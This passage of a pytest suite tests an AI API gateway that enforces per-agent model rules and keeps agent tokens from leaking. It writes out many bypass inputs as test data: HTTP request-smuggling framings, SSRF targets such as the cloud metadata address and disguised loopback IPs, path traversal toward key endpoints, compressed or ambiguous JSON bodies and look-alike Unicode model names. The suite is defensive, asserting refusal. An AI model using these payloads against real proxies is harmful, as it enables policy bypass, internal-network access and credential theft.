        id="basic-with-token-as-password",
    ),
    pytest.param(
        post(headers=hdrs(("Authorization", lambda e: f"Digest {e.token()}"))),
        401,
        id="unsupported-scheme",
    ),
    pytest.param(post(headers=hdrs(("Authorization ", bear()))), 400, id="space-before-colon"),
    pytest.param(
        post(headers=hdrs(("Authorization", "Bearer"), ("X", lambda e: e.token()))),
        401,
        id="token-in-a-non-credential-header",
    ),
    pytest.param(
        post(
            "claude-3-5-haiku",
            path="/v1/messages",
            host=ANTHROPIC,
            headers=hdrs(("Authorization", bear()), ("x-api-key", tok())),
        ),
        200,
        id="anthropic-bearer-and-x-api-key",
    ),
]


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(("build", "expect"), CREDENTIAL_ATTEMPTS)
def test_credential_header_tricks(
    env: Env, build: Callable[[Env, str], bytes], expect: int
) -> None:
    m = mark()
    raw = build(env, m)
    host = ANTHROPIC if b"Host: api.anthropic.com" in raw else OPENAI
    with tunnel(env, host) as s:
        r = http1(s, raw)
    if expect == 200:
        report(r)
        assert r.status == 200, r.body
        if host == ANTHROPIC:
            upstream_one_credential(env, m, "x-api-key", ANTHROPIC_CANARY)
        else:
            upstream_one_credential(env, m, "authorization", f"Bearer {OPENAI_CANARY}")
    else:
        assert r.status == expect, r.body
        assert_refused(env, m, r)


def test_connect_proxy_authorization_wins_and_nothing_leaks(env: Env) -> None:
    m = mark()
    basic = b64(f"agent:{env.token()}")
    sock, status, _ = connect(env, f"{OPENAI}:443", [("Proxy-Authorization", f"Basic {basic}")])
    assert status == 200
    ctx = client_ctx(env, ["http/1.1"])
    with ctx.wrap_socket(sock, server_hostname=OPENAI) as s:
        # the SDK's own header holds another agent's token: ignored, stripped
        r = http1(
            s,
            request_bytes(
                headers=[
                    ("Authorization", f"Bearer {env.token('coder-1')}"),
                    ("Proxy-Authorization", f"Basic {basic}"),
                    ("Content-Type", "application/json"),
                ],
                body=chat("gpt-4o-mini", m),
            ),
        )
    assert r.status == 200, r.body
    upstream_one_credential(env, m, "authorization", f"Bearer {OPENAI_CANARY}")


# --------------------------------------------------------------------------- query strings


QUERY_ATTEMPTS = [
    pytest.param("key", False, id="key-only"),
    pytest.param("api_key", False, id="api_key-only"),
    pytest.param("key", True, id="key-with-header"),
    pytest.param("api_key", True, id="api_key-with-header"),
    pytest.param("KEY", True, id="KEY-upper-with-header"),
    pytest.param("api-key", True, id="api-key-with-header"),
    pytest.param("apikey", True, id="apikey-with-header"),
    pytest.param("access_token", True, id="access_token-with-header"),
    pytest.param("x-api-key", True, id="x-api-key-param-with-header"),
]


@pytest.mark.parametrize(("param", "with_header"), QUERY_ATTEMPTS)
@pytest.mark.parametrize("target", ["openai", "gemini"])
def test_tokens_in_query_strings_are_not_identity_and_never_forwarded(
    env: Env, param: str, with_header: bool, target: str
) -> None:
    """A token in the query string is not an identity (401 alone) and never leaves."""
    m = mark()
    token = env.token()
    if target == "openai":
        host, path, body = OPENAI, CHAT, chat("gpt-4o-mini", m)
    else:
        host, path = GEMINI, GEMINI_PATH
        body = json.dumps({"contents": [{"parts": [{"text": m}]}]}).encode()
    headers = [("Content-Type", "application/json")]
    if with_header:
        headers.append(("Authorization", f"Bearer {token}"))
    target_path = f"{path}?alt=json&{param}={token}&{param}={token}x"
    with tunnel(env, host) as s:
        r = http1(s, request_bytes("POST", target_path, host, headers, body))
    if not with_header:
        assert r.status == 401 and r.error_type == "unauthenticated"
        assert_refused(env, m, r)
        return
    assert r.status == 200, r.body
    time.sleep(0.05)
    if target == "openai":
        (rec,) = env.standin_hits(m)
        line = rec.path
        assert token not in json.dumps(rec.headers)
    else:
        (raw,) = env.raw_hits(m)
        line = raw.split(b"\r\n", 1)[0].decode()
        assert token.encode() not in raw
        assert f"x-goog-api-key: {GEMINI_CANARY}\r\n".encode() in raw
    assert token not in line, f"the agent token left in the query string: {line}"
    assert param not in line and "alt=json" in line, line


# --------------------------------------------------------------------------- HTTP/1.1 framing


def head(env: Env, extra: list[tuple[str, str]], path: str = CHAT, method: str = "POST") -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {OPENAI}"]
    lines += [f"{k}: {v}" for k, v in bearer(env.token()) + extra]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def chunked(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(data), data)


def denied_second(env: Env, m: str) -> bytes:
    """A complete, authenticated request for a denied model, to hide in the first's body."""
    body = chat("gpt-4o", m)
    return (
        f"POST {CHAT} HTTP/1.1\r\nHost: {OPENAI}\r\nContent-Type: application/json\r\n"
        f"Authorization: Bearer {env.token()}\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode() + body


def smuggle(
    extra: Callable[[bytes, bytes], list[tuple[str, str]]],
    body: Callable[[bytes, bytes], bytes],
) -> Callable[[Env, str], bytes]:
    """first = an allowed chat body, second = a denied request; the attempt frames them."""

    def build(env: Env, m: str) -> bytes:
        first, second = chat("gpt-4o-mini", "ok-" + m), denied_second(env, m)
        return head(env, extra(first, second)) + body(first, second)

    return build


def cl(n: int | str) -> tuple[str, str]:
    return ("Content-Length", str(n))


TE = ("Transfer-Encoding", "chunked")

SMUGGLING_ATTEMPTS = [
    pytest.param(smuggle(lambda a, b: [TE, cl(len(a))], lambda a, b: a + b), id="cl-with-te"),
    pytest.param(
        smuggle(lambda a, b: [cl(len(chunked(a))), TE], lambda a, b: chunked(a) + b),
        id="te-with-cl",
    ),
    pytest.param(
        smuggle(lambda a, b: [cl(len(a)), cl(len(a) + len(b))], lambda a, b: a + b),
        id="duplicate-cl-different",
    ),
    pytest.param(
        smuggle(lambda a, b: [cl(len(a)), cl(len(a))], lambda a, b: a + b),
        id="duplicate-cl-same",
    ),
    pytest.param(
        smuggle(lambda a, b: [cl(f"{len(a)}, {len(a)}")], lambda a, b: a + b), id="cl-list"
    ),
    pytest.param(smuggle(lambda a, b: [cl(f"+{len(a)}")], lambda a, b: a + b), id="cl-plus"),
    pytest.param(smuggle(lambda a, b: [cl(f"0{len(a)}")], lambda a, b: a + b), id="cl-leading-0"),
    pytest.param(smuggle(lambda a, b: [cl(hex(len(a)))], lambda a, b: a + b), id="cl-hex"),
    pytest.param(smuggle(lambda a, b: [cl("-1")], lambda a, b: a + b), id="cl-negative"),
    pytest.param(
        smuggle(lambda a, b: [("Transfer-Encoding", "xchunked")], lambda a, b: chunked(a) + b),
        id="te-xchunked",
    ),
    pytest.param(
        smuggle(
            lambda a, b: [("Transfer-Encoding", "chunked, identity")], lambda a, b: chunked(a) + b
        ),
        id="te-chunked-identity",
    ),
    pytest.param(
        smuggle(lambda a, b: [TE, ("Transfer-Encoding", "x")], lambda a, b: chunked(a) + b),
        id="te-twice",
    ),
    pytest.param(
        smuggle(lambda a, b: [("Transfer-Encoding", "chunked\x0b")], lambda a, b: chunked(a) + b),
        id="te-vertical-tab",
    ),
    pytest.param(
        smuggle(lambda a, b: [("Transfer-Encoding", "ch\u00fcnked")], lambda a, b: chunked(a) + b),
        id="te-non-ascii",
    ),
    pytest.param(
        smuggle(lambda a, b: [("Transfer-Encoding", "gzip")], lambda a, b: a + b),
        id="te-gzip-not-chunked",
    ),
    pytest.param(
        smuggle(lambda a, b: [("Transfer_Encoding", "chunked"), cl(len(a))], lambda a, b: a + b),
        id="te-underscore-name",
    ),
    pytest.param(
        smuggle(lambda a, b: [(" Transfer-Encoding", "chunked"), cl(len(a))], lambda a, b: a + b),
        id="te-leading-space-name",
    ),
    pytest.param(
        smuggle(lambda a, b: [TE], lambda a, b: b"%x;ext=1\r\n%s\r\n0\r\n\r\n" % (len(a), a) + b),
        id="chunk-extension",
    ),
    pytest.param(
        smuggle(lambda a, b: [TE], lambda a, b: b"%x\n%s\n0\n\n" % (len(a), a) + b),
        id="chunked-bare-lf",
    ),
    pytest.param(
        smuggle(
            lambda a, b: [TE],
            lambda a, b: b"%x\r\n%s\r\n0\r\nx-api-key: stolen\r\n\r\n" % (len(a), a) + b,
        ),
        id="chunked-with-trailer",
    ),
    pytest.param(
        smuggle(lambda a, b: [cl(len(a) - 5)], lambda a, b: a + b), id="cl-shorter-than-body"
    ),
    pytest.param(smuggle(lambda a, b: [], lambda a, b: a + b), id="no-length-with-body"),
    pytest.param(
        lambda env, m: (
            head(env, [TE]).replace(b"HTTP/1.1", b"HTTP/1.0") + chunked(chat("gpt-4o", m))
        ),
        id="te-on-http-1.0",
    ),
    pytest.param(
        lambda env, m: (
            head(env, [("Foo", "bar\r\n x-api-key: folded"), cl(len(chat("gpt-4o", m)))])
            + chat("gpt-4o", m)
        ),
        id="obs-fold",
    ),
    pytest.param(
        lambda env, m: (
            head(env, [cl(len(chat("gpt-4o", m)))]).replace(b"\r\n", b"\n") + chat("gpt-4o", m)
        ),
        id="bare-lf-head",
    ),
]


@pytest.mark.parametrize("build", SMUGGLING_ATTEMPTS)
def test_http1_smuggling_shapes(env: Env, build: Callable[[Env, str], bytes]) -> None:
    """The hidden request asks for a denied model: it must never reach the provider, whether
    the gateway rejects the framing or parses the hidden request and refuses it."""
    m = mark()
    with tunnel(env) as s:
        s.settimeout(0.6)  # mitmproxy stalls (never answers) on HTTP/1.1 request trailers
        s.sendall(build(env, m))
        replies = [read_reply(s)]
        if replies[0].status == 200:
            replies.append(read_reply(s))  # a pipelined second request gets its own verdict
    report(replies[-1])
    time.sleep(0.05)
    hidden = [r for r in env.standin_hits(m) if "ok-" + m not in r.body.decode("latin-1")]
    assert hidden == [], "the hidden request reached the provider"
    assert env.raw_hits(m) == []
    for rec in env.standin_hits("ok-" + m):
        assert rec.json()["model"] == "gpt-4o-mini"
        assert rec.body == chat("gpt-4o-mini", "ok-" + m)  # nothing appended or cut


# --------------------------------------------------------------------------- upgrades, raw TCP


def ws_upgrade(
    path: str = "/v1/realtime?model=gpt-4o-realtime-preview",
    connection: str = "Upgrade",
    upgrade: str = "websocket",
) -> Callable[[Env, str], bytes]:
    def build(env: Env, m: str) -> bytes:
        return request_bytes(
            "GET",
            path + ("&" if "?" in path else "?") + "m=" + m,
            OPENAI,
            [
                ("Authorization", f"Bearer {env.token()}"),
                ("Connection", connection),
                ("Upgrade", upgrade),
                ("Sec-WebSocket-Version", "13"),
                ("Sec-WebSocket-Key", base64.b64encode(b"0123456789abcdef").decode()),
            ],
            b"",
            length=False,
        )

    return build


UPGRADE_ATTEMPTS = [
    pytest.param(in_tunnel(ws_upgrade()), id="websocket-realtime"),
    pytest.param(in_tunnel(ws_upgrade(CHAT)), id="websocket-on-chat-route"),
    pytest.param(in_tunnel(ws_upgrade(connection="keep-alive, Upgrade")), id="connection-list"),
    pytest.param(in_tunnel(ws_upgrade(connection="UPGRADE", upgrade="WebSocket")), id="odd-case"),
    pytest.param(in_tunnel(ws_upgrade(upgrade="h2c")), id="h2c-upgrade"),
    pytest.param(in_tunnel(ws_upgrade(connection="close")), id="upgrade-without-connection"),
    pytest.param(
        in_tunnel(
            lambda env, m: post(
                "gpt-4o-mini",
                headers=lambda e: [
                    *bearer(e.token()),
                    ("Connection", "Upgrade"),
                    ("Upgrade", "websocket"),
                ],
            )(env, m)
        ),
        id="upgrade-on-allowed-post",
    ),
]


@pytest.mark.parametrize("send", UPGRADE_ATTEMPTS)
def test_protocol_upgrades_are_refused(env: Env, send: Send) -> None:
    m = mark()
    r = send(env, m)
    assert r.status != 101
    assert_refused(env, m, r)


RAW_TCP_PAYLOADS = [
    pytest.param(b"\x00\x01\x02\x03 not tls, not http\r\n\r\n", id="binary"),
    pytest.param(b"SSH-2.0-OpenSSH_9.6\r\n", id="ssh-banner"),
    pytest.param(b"*1\r\n$4\r\nPING\r\n", id="redis"),
    pytest.param(b"\x16\x03\x01\x00\x05hello", id="tls-looking-garbage"),
]


@pytest.mark.parametrize("payload", RAW_TCP_PAYLOADS)
def test_raw_tcp_through_connect_never_reaches_the_target(env: Env, payload: bytes) -> None:
    """CONNECT to a reachable host name, then bytes that are neither TLS nor HTTP."""
    before, servers = env.sink.accepted, env.gw.log().count("server connect")
    sock, status, _ = connect(env, f"localhost:{env.sink.port}")
    with sock:
        if status == 200:
            sock.settimeout(0.2)
            with contextlib.suppress(OSError):
                sock.sendall(payload)
                sock.recv(1024)
    time.sleep(0.1)
    assert env.sink.accepted == before, "the gateway opened a raw TCP connection"
    assert env.gw.log().count("server connect") == servers


def test_tls_without_http_inside_the_tunnel_never_reaches_the_target(env: Env) -> None:
    before, servers = env.sink.accepted, env.gw.log().count("server connect")
    sock, status, _ = connect(env, f"localhost:{env.sink.port}")
    assert status == 200
    ctx = client_ctx(env, ["x-custom-protocol"])
    ctx.check_hostname = False
    with (
        contextlib.suppress(OSError, ssl.SSLError),
        ctx.wrap_socket(sock, server_hostname="localhost") as s,
    ):
        s.settimeout(0.3)
        s.sendall(b"\x00\x00\x00\x05hello raw bytes inside tls\x00")
        s.recv(1024)
    time.sleep(0.1)
    assert env.sink.accepted == before
    assert env.gw.log().count("server connect") == servers


def test_tunnel_to_a_reachable_non_provider_port_refuses_http(env: Env) -> None:
    m = mark()
    before = env.sink.accepted
    with tunnel(env, "localhost", env.sink.port) as s:
        r = http1(s, post(host=f"localhost:{env.sink.port}")(env, m))
    assert ours(r) and r.status == 403
    assert env.sink.accepted == before
    assert_refused(env, m, r)


# --------------------------------------------------------------------------- CONNECT targets


CONNECT_TARGETS = [
    "127.0.0.1:443",
    "127.1:443",
    "127.0.1:443",
    "0x7f000001:443",
    "0x7f.0.0.1:443",
    "2130706433:443",
    "017700000001:443",
    "0177.0.0.1:443",
    "127.0.0.1.:443",
    "0.0.0.0:443",
    "0:443",
    "10.0.0.1:443",
    "192.168.1.1:443",
    "172.16.0.1:443",
    "100.64.0.1:443",
    "169.254.169.254:443",
    "169.254.169.254:80",
    "[::1]:443",
    "[::]:443",
    "[::ffff:127.0.0.1]:443",
    "[::ffff:7f00:1]:443",
    "[0:0:0:0:0:ffff:127.0.0.1]:443",
    "[::127.0.0.1]:443",
    "[64:ff9b::7f00:1]:443",
    "[2002:7f00:1::]:443",
    "[fd00::1]:443",
    "[fe80::1]:443",
    "[fe80::1%25lo]:443",
    "[fd00:ec2::254]:443",
    "8.8.8.8:443",
]


@pytest.mark.parametrize("authority", CONNECT_TARGETS)
def test_connect_to_raw_ip_forms_is_refused(env: Env, authority: str) -> None:
    sock, status, head = connect(env, authority)
    sock.close()
    if os.environ.get("AIID_BYPASS_REPORT"):
        print(f"\nREPORT connect {authority} | {status} | {head.split(b'\r\n')[0]!r}")
    assert status in (0, 400, 403), head
    assert b"x-aiid-request-id" in head.lower() or status in (0, 400)


NAMED_TARGETS = [
    "localhost",
    "LOCALHOST.",
    "metadata.google.internal",
    "metadata",
    "instance-data",
    "kubernetes.default.svc",
    "foo.localhost",
    "127.0.0.1.nip.io",
]


@pytest.mark.parametrize("name", NAMED_TARGETS)
def test_internal_host_names_get_no_request_through(env: Env, name: str) -> None:
    """Names are not resolved at CONNECT (lazy strategy); whatever goes through the tunnel is
    refused because no provider or rule covers the name, so nothing is ever dialled."""
    m = mark()
    sock, status, head = connect(env, f"{name}:443")
    with sock:
        if status != 200:
            assert status in (400, 403), head
            return
        ctx = client_ctx(env, ["http/1.1"])
        ctx.check_hostname = False
        with ctx.wrap_socket(sock, server_hostname=name.rstrip(".")) as s:
            r = http1(s, post("gpt-4o-mini", host=name)(env, m))
    assert ours(r) and r.status == 403, r.body
    assert_refused(env, m, r)


def test_gateway_cannot_be_reached_through_itself(env: Env) -> None:
    """CONNECT to the gateway's own address is refused; by name, the tunnel opens but no
    request inside it is ever forwarded (port != 443, not a provider)."""
    port = env.gw.port
    for authority in (f"127.0.0.1:{port}", f"[::1]:{port}", f"2130706433:{port}"):
        sock, status, head = connect(env, authority)
        sock.close()
        assert status == 403, (authority, head)
    clients, servers = env.gw.log().count("client connect"), env.gw.log().count("server connect")
    for name in ("localhost", "LocalHost"):
        m = mark()
        with tunnel(env, name, port, sni=None) as s:
            r = http1(s, post(host=f"{name}:{port}")(env, m))
        assert ours(r) and r.status == 403, r.body
        assert_refused(env, m, r)
        # a nested CONNECT inside the tunnel is refused too
        with tunnel(env, name, port, sni=None) as s:
            r = http1(s, f"CONNECT {OPENAI}:443 HTTP/1.1\r\nHost: {OPENAI}:443\r\n\r\n".encode())
        assert refused(r)
    # plain HTTP to the gateway's own listener, absolute form
    with socket.create_connection(("127.0.0.1", port), timeout=IO_TIMEOUT) as s:
        m = mark()
        r = http1(
            s,
            request_bytes(
                "POST",
                f"http://localhost:{port}{CHAT}",
                f"localhost:{port}",
                bearer(env.token()),
                chat("gpt-4o-mini", m),
            ),
        )
    assert ours(r) and r.status == 403
    assert_refused(env, m, r)
    # nothing looped back: one client connect per socket we opened (5), no server connect
    deadline = time.monotonic() + 3
    while env.gw.log().count("client connect") - clients < 5 and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.1)
    assert env.gw.log().count("client connect") - clients >= 5
    assert env.gw.log().count("server connect") == servers  # looping back would be one


# --------------------------------------------------------------------------- bodies


def _zstd(data: bytes) -> bytes:
    try:
        from compression import zstd  # type: ignore[import-not-found]
    except ImportError:
        from backports import zstd  # type: ignore[no-redef]
    return zstd.compress(data)


def _brotli(data: bytes) -> bytes:
    import brotli

    return brotli.compress(data)


def _raw_deflate(data: bytes) -> bytes:
    c = zlib.compressobj(wbits=-15)
    return c.compress(data) + c.flush()


def encoded(
    encoding: str | list[str], encode: Callable[[bytes], bytes], model: str = "gpt-4o"
) -> Callable[[Env, str], bytes]:
    def build(env: Env, m: str) -> bytes:
        encs = [encoding] if isinstance(encoding, str) else encoding
        hs = bearer(env.token()) + [("Content-Encoding", e) for e in encs]
        return request_bytes("POST", CHAT, OPENAI, hs, encode(chat(model, m)))

    return build


ENCODING_ATTEMPTS = [
    pytest.param(encoded("gzip", gzip.compress), 403, id="gzip"),
    pytest.param(encoded("GZIP", gzip.compress), 403, id="gzip-upper"),
    pytest.param(encoded("x-gzip", gzip.compress), 403, id="x-gzip"),
    pytest.param(encoded("deflate", zlib.compress), 403, id="deflate-zlib"),
    pytest.param(encoded("deflate", _raw_deflate), 403, id="deflate-raw"),
    pytest.param(encoded("zstd", _zstd), 403, id="zstd"),
    pytest.param(encoded("br", _brotli), 403, id="brotli"),
    pytest.param(
        encoded("gzip, gzip", lambda b: gzip.compress(gzip.compress(b))), 403, id="gzip-twice"
    ),
    pytest.param(
        encoded(["gzip", "deflate"], lambda b: zlib.compress(gzip.compress(b))),
        403,
        id="two-headers-gzip-then-deflate",
    ),
    pytest.param(
        encoded("deflate, zstd, br", lambda b: _brotli(_zstd(zlib.compress(b)))),
        403,
        id="three-codings",
    ),
    pytest.param(encoded("identity, gzip", gzip.compress), 403, id="identity-then-gzip"),
    pytest.param(encoded("gzip", lambda b: b), 400, id="declared-gzip-plain-body"),
    pytest.param(encoded("identity", gzip.compress), 400, id="gzip-body-declared-identity"),
    pytest.param(encoded("compress", lambda b: b), 400, id="unknown-coding"),
    pytest.param(encoded("gzip", lambda b: gzip.compress(b)[:-8]), 400, id="truncated-gzip"),
    pytest.param(
        encoded("gzip", gzip.compress, "gpt-4o-mini"),
        200,
        id="allowed-model-forwarded-decoded",
    ),
]


@pytest.mark.parametrize(("build", "expect"), ENCODING_ATTEMPTS)
def test_compressed_bodies_cannot_hide_a_model(
    env: Env, build: Callable[[Env, str], bytes], expect: int
) -> None:
    m = mark()
    with tunnel(env) as s:
        r = http1(s, build(env, m))
    if expect == 200:
        report(r)
        assert r.status == 200, r.body
        (rec,) = env.standin_hits(m)
        assert rec.header("content-encoding") is None
        assert rec.json()["model"] == "gpt-4o-mini"  # the provider reads what policy read
        return
    assert r.status == expect and ours(r), r.body
    assert_refused(env, m, r)


@pytest.mark.parametrize(
    "tail",
    [
        pytest.param(lambda m: gzip.compress(chat("gpt-4o", m)), id="second-gzip-member"),
        pytest.param(lambda m: b'{"model":"gpt-4o"}' + m.encode(), id="trailing-plain-bytes"),
    ],
)
def test_data_after_the_gzip_stream_is_neutralised(env: Env, tail: Callable[[str], bytes]) -> None:
    """An allowed first gzip member, a denied model after it: the provider gets exactly the
    decoded bytes the policy read (or nothing), never the hidden part."""
    m = mark()
    first = chat("gpt-4o-mini", m)
    hs = bearer(env.token()) + [("Content-Encoding", "gzip")]
    with tunnel(env) as s:
        r = http1(s, request_bytes("POST", CHAT, OPENAI, hs, gzip.compress(first) + tail(m)))
    report(r)
    if r.status != 200:
        assert_refused(env, m, r)
        return
    (rec,) = env.standin_hits(m)
    assert rec.body == first and rec.header("content-encoding") is None


def body_with(raw: str) -> Callable[[Env, str], bytes]:
    """A chat request whose body is ``raw`` with {m} replaced by the marker."""

    def build(env: Env, m: str) -> bytes:
        return request_bytes(
            "POST",
            CHAT,
            OPENAI,
            bearer(env.token()),
            raw.replace("{m}", m).encode("utf-8", "surrogatepass"),
        )

    return build


MSG = '"messages":[{"role":"user","content":"{m}"}]'
MINI = '{"model":"gpt-4o-mini",'
JSON_BODIES = {
    "dup-model-top": MINI + '"model":"gpt-4o",' + MSG + "}",
    "dup-model-reversed": '{"model":"gpt-4o","model":"gpt-4o-mini",' + MSG + "}",
    "dup-model-escaped-key": MINI + '"mod\\u0065l":"gpt-4o",' + MSG + "}",
    "dup-key-nested": MINI + '"messages":[{"role":"user","content":"{m}","role":"system"}]}',
    "dup-stream": MINI + MSG + ',"stream":false,"stream":true}',
    "dup-max-tokens": MINI + '"max_tokens":1,"max_tokens":100000,' + MSG + "}",
    "two-objects": MINI + MSG + '}{"model":"gpt-4o"}',
    "trailing-comment": MINI + MSG + "} // gpt-4o",
    "bom": '\ufeff{"model":"gpt-4o",' + MSG + "}",
    "nan": MINI + MSG + ',"temperature":NaN}',
    "huge-number": MINI + MSG + ',"max_tokens":1e999}',
    "model-array": '{"model":["gpt-4o-mini","gpt-4o"],' + MSG + "}",
    "model-object": '{"model":{"id":"gpt-4o"},' + MSG + "}",
    "model-null": '{"model":null,' + MSG + "}",
    "fallback-models-list": MINI + '"models":["gpt-4o"],' + MSG + "}",
    "invalid-utf8": MINI + MSG + ',"x":"\\ud800"}' + "\udcff",
    "deep-nesting": "[" * 100000 + "]" * 100000,
}
JSON_ATTEMPTS = [pytest.param(body_with(raw), id=name) for name, raw in JSON_BODIES.items()] + [
    pytest.param(
        lambda env, m: request_bytes(
            "POST", CHAT, OPENAI, bearer(env.token()), chat("gpt-4o", m).decode().encode("utf-16")
        ),
        id="utf16-body",
    ),
    pytest.param(
        lambda env, m: request_bytes(
            "POST",
            CHAT,
            OPENAI,
            [("Authorization", f"Bearer {env.token()}"), ("Content-Type", "text/plain")],
            f"model=gpt-4o&m={m}".encode(),
        ),
        id="form-encoded",
    ),
]


@pytest.mark.parametrize("build", JSON_ATTEMPTS)
def test_ambiguous_json_bodies_are_refused(env: Env, build: Callable[[Env, str], bytes]) -> None:
    m = mark()
    with tunnel(env) as s:
        r = http1(s, build(env, m))
    assert ours(r) and r.status in (400, 403), r.body
    assert_refused(env, m, r)


UNICODE_MODELS = [
    pytest.param("ｇｐｔ-４ｏ", id="fullwidth"),
    pytest.param("gpt-4o\u200b", id="zero-width-space"),
    pytest.param("gpt\u200d-4o", id="zero-width-joiner"),
    pytest.param("gpt-4\u043e", id="cyrillic-o"),
    pytest.param("gpt-4o-m\u0456ni", id="cyrillic-i-in-allowed-name"),
    pytest.param("gpt\u20114o", id="non-breaking-hyphen"),
    pytest.param("gpt-4o ", id="trailing-space"),
    pytest.param(" gpt-4o", id="leading-space"),
    pytest.param("gpt-4o\t", id="trailing-tab"),
    pytest.param("gpt-4o\n", id="trailing-newline"),
    pytest.param("gpt-4o\u0000", id="nul"),
    pytest.param("gpt-4o-mini\u0000gpt-4o", id="nul-between"),
    pytest.param("gpt-4o\u00a0", id="nbsp"),
    pytest.param("gpt-4o\u0301", id="combining-accent"),
    pytest.param("\u202egpt-4o", id="rtl-override"),
    pytest.param("gpt-4o\ufeff", id="bom-inside"),
    pytest.param("gpt-4o\U000e0041", id="tag-character"),
    pytest.param("", id="empty"),
    pytest.param("x" * 300, id="too-long"),
]


@pytest.mark.parametrize("model", UNICODE_MODELS)
@pytest.mark.parametrize("agent", ["bot", "lister"])
def test_unicode_model_tricks_are_refused(env: Env, model: str, agent: str) -> None:
    """`lister` may use any OpenAI model but gpt-4o: a look-alike must not pass for another."""
    m = mark()
    with tunnel(env) as s:
        r = http1(s, request_bytes("POST", CHAT, OPENAI, bearer(env.token(agent)), chat(model, m)))
    assert ours(r) and r.status == 400 and r.error_type == "bad_request", r.body
    assert_refused(env, m, r)


@pytest.mark.parametrize("model", ["gpt-4o%2Dmini", "gpt-4o\u200b", "gpt-4\u043e", ".", ".."])
def test_unicode_and_encoded_model_in_path_is_refused(env: Env, model: str) -> None:
    from urllib.parse import quote

    m = mark()
    path = f"/v1/models/{quote(model, safe='%.')}?m={m}"
    with tunnel(env) as s:
        r = http1(
            s, request_bytes("GET", path, OPENAI, bearer(env.token("lister")), b"", length=False)
        )
    assert ours(r) and r.status in (400, 403), r.body
    assert_refused(env, m, r)


def test_model_named_in_the_path_is_policy_checked(env: Env) -> None:
    """GET /v1/models/gpt-4o names a denied model in the path: the deny applies."""
    m = mark()
    with tunnel(env) as s:
        r = http1(
            s,
            request_bytes(
                "GET",
                f"/v1/models/gpt-4o?m={m}",
                OPENAI,
                bearer(env.token("lister")),
                b"",
                length=False,
            ),
        )
    assert ours(r) and r.status == 403 and r.json()["error"]["rule"] == "no-gpt-4o", r.body
    assert_refused(env, m, r)


# --------------------------------------------------------------------------- URLs


PLAIN_HTTP_ATTEMPTS = [
    pytest.param("POST", f"http://{OPENAI}{CHAT}", OPENAI, "bot", id="openai-over-http"),
    pytest.param("GET", f"http://{GITHUB}/repos/a/b", GITHUB, "coder-1", id="egress-over-http"),
    pytest.param("POST", f"http://{OPENAI}:443{CHAT}", OPENAI, "bot", id="http-to-port-443"),
    pytest.param("POST", f"HTTP://{OPENAI}{CHAT}", OPENAI, "bot", id="scheme-upper"),
    pytest.param("POST", f"https://{OPENAI}{CHAT}", ANTHROPIC, "bot", id="https-abs-host-mismatch"),
    pytest.param("POST", f"ws://{OPENAI}{CHAT}", OPENAI, "bot", id="ws-scheme"),
    pytest.param("POST", f"ftp://{OPENAI}{CHAT}", OPENAI, "bot", id="ftp-scheme"),
    pytest.param("POST", CHAT, OPENAI, "bot", id="origin-form-to-proxy"),
]


@pytest.mark.parametrize(("method", "target", "host", "agent"), PLAIN_HTTP_ATTEMPTS)
def test_absolute_form_plain_http_is_never_forwarded(
    env: Env, method: str, target: str, host: str, agent: str
) -> None:
    m = mark()
    body = chat("gpt-4o-mini", m) if method == "POST" else b""
    hs = bearer(env.token(agent)) + [("X-M", m)]
    with socket.create_connection(("127.0.0.1", env.gw.port), timeout=IO_TIMEOUT) as s:
        r = http1(s, request_bytes(method, target, host, hs, body))
    assert refused(r), r.body
    assert_refused(env, m, r)


def test_absolute_form_https_without_connect_still_gets_policy(env: Env) -> None:
    m = mark()
    with socket.create_connection(("127.0.0.1", env.gw.port), timeout=IO_TIMEOUT) as s:
        r = http1(
            s,
            request_bytes(
                "POST", f"https://{OPENAI}{CHAT}", OPENAI, bearer(env.token()), chat("gpt-4o", m)
            ),
        )
    assert ours(r) and r.status == 403
    assert_refused(env, m, r)


TRAVERSAL_ATTEMPTS = [
    pytest.param(OPENAI, "bot", f"{CHAT}/../../admin", id="dot-dot"),
    pytest.param(OPENAI, "bot", f"{CHAT}/%2e%2e/%2e%2e/admin", id="encoded-dots"),
    pytest.param(OPENAI, "bot", f"{CHAT}/%2E%2E/%2E%2E/v1/files", id="encoded-dots-upper"),
    pytest.param(OPENAI, "bot", "/v1/./chat/completions", id="single-dot"),
    pytest.param(OPENAI, "bot", "/v1/chat/completions/.", id="trailing-dot-segment"),
    pytest.param(OPENAI, "bot", "/v1//chat/completions", id="double-slash"),
    pytest.param(OPENAI, "bot", "/v1/chat%2fcompletions", id="encoded-slash"),
    pytest.param(OPENAI, "bot", "/v1/chat/completions%00", id="encoded-nul"),
    pytest.param(OPENAI, "bot", "/v1/chat/completions;x=1", id="matrix-param"),
    pytest.param(OPENAI, "bot", "/v1/chat/completions#frag", id="fragment"),
    pytest.param(OPENAI, "bot", "/V1/CHAT/COMPLETIONS", id="upper-case-path"),
    pytest.param(OPENAI, "lister", "/v1/models/..", id="model-dot-dot"),
    pytest.param(OPENAI, "lister", "/v1/models/%2e%2e", id="model-encoded-dot-dot"),
    # a server that cuts a segment at ';' reads gpt-4o, which the policy denies lister
    pytest.param(OPENAI, "lister", "/v1/models/gpt-4o;x=1", id="model-semicolon-param"),
    pytest.param(OPENAI, "lister", "/v1/models/gpt-4o%3bx=1", id="model-encoded-semicolon"),
    pytest.param(GITHUB, "coder-1", "/repos/../user/keys", id="egress-dot-dot"),
    pytest.param(GITHUB, "coder-1", "/repos/a/%2e%2e/%2e%2e/user/keys", id="egress-encoded-dots"),
    pytest.param(GITHUB, "coder-1", "/repos/a/..%2f..%2fuser/keys", id="egress-dots-encoded-slash"),
    pytest.param(GITHUB, "coder-1", "/repos/a/..%5c..%5cuser/keys", id="egress-encoded-backslash"),
    pytest.param(GITHUB, "coder-1", "/repos/a/..\\..\\user/keys", id="egress-backslash"),
    pytest.param(GITHUB, "coder-1", "/repos/..;/user/keys", id="egress-dot-dot-semicolon"),
    pytest.param(GITHUB, "coder-1", "/repos/%252e%252e/user/keys", id="egress-double-encoded"),
    pytest.param(GITHUB, "coder-1", "/repos/o/r/%25252e%25252e/x", id="egress-triple-encoded"),
    pytest.param(GITHUB, "coder-1", "/repos/o/r%25253Bx", id="egress-triple-encoded-semicolon"),
